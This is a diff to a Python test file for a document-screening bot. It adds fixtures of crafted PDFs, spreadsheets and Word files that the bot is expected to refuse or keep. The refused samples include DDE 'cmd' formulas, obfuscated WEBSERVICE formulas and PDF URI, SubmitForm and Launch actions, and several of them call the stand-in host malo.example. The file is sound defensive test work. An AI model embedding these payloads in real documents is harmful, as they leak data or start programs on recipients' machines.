@@ -6,7 +6,7 @@ from pathlib import Path
 
 import pytest
 from pypdf.annotations import Link
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
 from bot.evidence.kinds import archive
 from bot.evidence.kinds.sniffing import Sniffed, sniff
@@ -69,6 +69,56 @@ def with_action(kind: str, what: str = "/F") -> bytes:
     )
     writer.root_object[NameObject("/OpenAction")] = action
     return made.written(writer)
+
+
+def action(kind: str, **more: str) -> DictionaryObject:
+    """What happens when the PDF is opened, or when something in it is tapped."""
+    said = {NameObject(f"/{name}"): TextStringObject(value) for name, value in more.items()}
+    return DictionaryObject({NameObject("/S"): NameObject(f"/{kind}"), **said})
+
+
+def opening(done: DictionaryObject, apart: bool = True) -> bytes:
+    """The action is done as the document is opened; `apart`: it is an object of its own."""
+    writer = made.pdf()
+    writer.root_object[NameObject("/OpenAction")] = writer._add_object(done) if apart else done
+    return made.written(writer)
+
+
+def after(first: DictionaryObject, second: DictionaryObject) -> DictionaryObject:
+    first[NameObject("/Next")] = ArrayObject([second])
+    return first
+
+
+def shown(done: DictionaryObject, event: str = "O") -> bytes:
+    """The action is done as the first page comes into view."""
+    writer = made.pdf()
+    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject(f"/{event}"): done})
+    return made.written(writer)
+
+
+def tapped(done: DictionaryObject) -> bytes:
+    """The action is done when somebody taps a link."""
+    writer = made.pdf()
+    link = Link(rect=(0, 0, 9, 9), url="https://www.sat.gob.mx")
+    link[NameObject("/A")] = done
+    writer.add_annotation(0, link)
+    return made.written(writer)
+
+
+def formula(said: str, part: str = "xl/worksheets/sheet1.xml", element: str = "f") -> bytes:
+    body = f"<x><c r='A9'><{element}>{said}</{element}><v>1</v></c></x>".encode()
+    return made.with_parts(made.workbook(), {part: body})
+
+
+def connection(said: str, **attributes: str) -> bytes:
+    more = " ".join(f"{name}='{value}'" for name, value in attributes.items())
+    body = f"<connections><connection id='1' name='x' {more}>{said}</connection></connections>"
+    return made.with_parts(made.workbook(), {"xl/connections.xml": body.encode()})
+
+
+def linked_book(target: str) -> bytes:
+    rels = made.relations("externalLinkPath", target)
+    return made.with_parts(made.workbook(), {"xl/externalLinks/_rels/externalLink1.xml.rels": rels})
 
 
 def with_file() -> bytes:
@@ -144,6 +194,41 @@ REFUSED = {
     "DDE in a cell": made.with_parts(
         made.workbook(), {"xl/worksheets/sheet7.xml": b"<c><f ca='1'>cmd|'/c calc'!A0</f></c>"}
     ),
+    "a formula that loads": formula('_xlfn.WEBSERVICE("http://malo.example")'),
+    "a formula that loads, in lower case": formula('1+webservice ("http://malo.example")'),
+    "a formula that loads, in numbers": formula("_xlfn.WEB&#83;ERVICE(A1)"),
+    "a formula that loads, in pieces": formula("_xlfn.WEB<![CDATA[SERVICE]]>(A1)"),
+    "a formula that loads, with a remark": formula("_xlfn.WEB<!-- x -->SERVICE(A1)"),
+    "a formula that loads, with a prefix": formula("_xlfn.WEBSERVICE(A1)", element="x:f"),
+    "a formula that asks a program": formula('RTD("malo.Servidor",,"x")'),
+    "a name that loads": formula("_xlfn.WEBSERVICE(A1)", part="xl/workbook2.xml", element="definedName"),
+    "a rule that loads": formula("_xlfn.WEBSERVICE(A1)=1", element="formula1"),
+    "DDE in a cell, in numbers": formula("cmd&#124;'/c calc'!A0"),
+    "DDE in a cell, further on": formula("1+cmd|'/c calc'!A0"),
+    "a workbook of the web": linked_book("https://malo.example/libro.xlsx"),
+    "a workbook of another machine": linked_book(r"file:///\\malo\c\libro.xlsx"),
+    "a query of the web": connection("<webPr url='http://malo.example'/>", type="4"),
+    "a query of a database": connection("<dbPr connection='Provider=SQLOLEDB;Data Source=malo'/>", type="5"),
+    "a query by the minute": connection("<textPr sourceFile='C:\\a.csv'/>", interval="5"),
+    "a query of a file elsewhere": connection("<textPr sourceFile='\\\\malo\\a.csv'/>", type="6"),
+    "a table that asks again when opened": made.with_parts(
+        made.workbook(), {"xl/queryTables/queryTable1.xml": b"<queryTable refreshOnLoad='true'/>"}
+    ),
+    "Word with another document's part": field(' LINK Excel.Sheet.8 "\\\\malo\\a.xlsx" '),
+    "Word with a database": field(' DATABASE \\d "\\\\malo\\a.mdb" '),
+    "slides that start a program": made.with_parts(
+        made.word(), {"ppt/slides/slide1.xml": b"<a:hlinkClick action='ppaction://program' r:id='r1'/>"}
+    ),
+    "a formula that loads in LibreOffice": made.open_document(
+        {"content.xml": b'<a table:formula="of:=WEBSERVICE(&quot;http://malo.example&quot;)"/>'}
+    ),
+    "DDE in LibreOffice": made.open_document(
+        {"content.xml": b'<a table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/>'}
+    ),
+    "old Excel with a formula that loads": excel((0x85, SHEET), (0x23, bytes(6) + b"\x10\0_xlfn.WEBSERVICE")),
+    "old Excel with a query of the web": excel((0x85, SHEET), (0x803, b"\3\x08\0\0\4\0" + bytes(30))),
+    "table with a formula that loads": b'a;b\n=WEBSERVICE("http://malo.example/"&A1);1\n',
+    "table with one in Spanish": b'a;b\n"=SERVICIOWEB(""http://malo.example"")";1\n',
     "a connection between others": made.with_parts(
         made.workbook(),
         {
@@ -184,6 +269,20 @@ REFUSED = {
     .replace(b"/JS", b"/#4aS"),
     "PDF with a script replaced later": replaced_later(with_script(False)),
     "PDF that starts a program": with_action("/Launch"),
+    "PDF that opens a page of the web": opening(action("URI", URI="http://malo.example")),
+    "PDF that opens one, within its catalogue": opening(action("URI", URI="http://malo.example"), False),
+    "PDF that opens one after a page of its own": opening(
+        after(action("GoTo"), action("URI", URI="http://malo.example"))
+    ),
+    "PDF that opens another document": opening(action("GoToR", F="otro.pdf")),
+    "PDF that sends something": opening(action("SubmitForm", F="http://malo.example")),
+    "PDF whose page opens one of the web": shown(action("URI", URI="http://malo.example")),
+    "PDF whose page opens a document": shown(action("GoToR", F="otro.pdf"), "C"),
+    "PDF with a button that sends": tapped(action("SubmitForm", F="http://malo.example")),
+    "PDF with a link to a share": tapped(action("GoToR", F=r"\\malo\a.pdf")),
+    "PDF with a link that starts a program": tapped(action("Launch", F="cmd.exe")),
+    "PDF with a packed action": packed_objects(b"<</S /URI /URI (http://malo.example)>>"),
+    "damaged PDF that opens a page of the web": b"%PDF-1.4\n1 0 obj\n<</OpenAction <</S /URI /URI (http://x)>>>>",
     "PDF with a file": with_file(),
     "PDF and web page": b"<html><script>1</script>\n" + made.written(made.pdf()),
     "PDF and zip": made.written(made.pdf()) + ZIP,
@@ -270,6 +369,29 @@ def linked_pdf() -> bytes:
     return made.written(writer)
 
 
+def of_libreoffice() -> bytes:
+    """The catalogue and the links of a PDF as LibreOffice writes them."""
+    link = "<</Type/Annot/Subtype/Link/Border[0 0 0]/Rect[0 0 9 9]/A<</Type/Action/S/URI/URI({})>>>>"
+    links = "".join(map(link.format, ("https://www.sat.gob.mx/", "mailto:a@b.mx", "anexo.pdf")))
+    return (
+        f"%PDF-1.6\n1 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[{links}]>>\nendobj\n"
+        "2 0 obj\n<</Type/Pages/Kids[1 0 R]/Count 1>>\nendobj\n"
+        "3 0 obj\n<</Type/Catalog/Pages 2 0 R\n/OpenAction[1 0 R /XYZ null null 0]\n/Lang(es-MX)>>\nendobj\n"
+        "trailer\n<</Size 4/Root 3 0 R>>\n%%EOF\n"
+    ).encode()
+
+
+def at_its_page(kind: str) -> bytes:
+    """A PDF that opens at a page of its own, by a place or by an action."""
+    writer = made.pdf()
+    place = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
+    done = action("GoTo")
+    done[NameObject("/D")] = place
+    writer.root_object[NameObject("/OpenAction")] = place if kind == "place" else done
+    writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://www.sat.gob.mx"))
+    return made.written(writer)
+
+
 def owner_locked() -> bytes:
     """It opens without a password; only changing it asks for one."""
     writer = made.pdf()
@@ -295,6 +417,23 @@ KEPT = {
     "RTF": ("a.rtf", rb"{\rtf1\ansi{\*\template C:\\Users\\Ana\\Normal.dotm}{\fldinst HYPERLINK x} Objeto}"),
     "PDF": ("a.pdf", made.written(made.pdf())),
     "PDF with links": ("a.pdf", linked_pdf()),
+    "PDF of LibreOffice with links": ("a.pdf", of_libreoffice()),
+    "PDF that opens at a page": ("a.pdf", at_its_page("place")),
+    "PDF that opens at a page by an action": ("a.pdf", at_its_page("action")),
+    "PDF that prints itself": ("a.pdf", opening(action("Named", N="/Print"))),
+    "PDF with a link to a document beside it": ("a.pdf", tapped(action("GoToR", F="anexo.pdf"))),
+    "PDF with a link of its own object": ("a.pdf", tapped(action("URI", URI="https://www.sat.gob.mx"))),
+    "Excel with formulas": ("a.xlsx", formula("SUM('Metas | 2024'!A1:A3)&amp;\"a|b: WEBSERVICE(x)\"")),
+    "Excel with a column so called": ("a.xlsx", formula("SUM(Metas[[#This Row],[Meta|Avance]])")),
+    "Excel with a text that names one": ("a.xlsx", formula("La función WEBSERVICE(x)", element="t")),
+    "Excel with a workbook of one's own": ("a.xlsx", linked_book("file:///C:\\Users\\Ana\\Metas.xlsx")),
+    "Excel with a workbook beside it": ("a.xlsx", linked_book("Metas%202024.xlsx")),
+    "Excel that tidied its own table": (
+        "a.xlsx",
+        connection("<dbPr connection='Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$'/>", type="5"),
+    ),
+    "Excel with a text of one's own": ("a.xlsx", connection("<textPr sourceFile='C:\\a.csv'/>", type="6")),
+    "Word with a hint": ("a.docx", field(' HYPERLINK "https://x" \\o "el link del acta" ')),
     "PDF with packed objects": ("a.pdf", packed_objects(b"[3 0 R /Fit]")),
     "PDF that only its owner changes": ("a.pdf", owner_locked()),
     "invoice": ("a.xml", INVOICE),
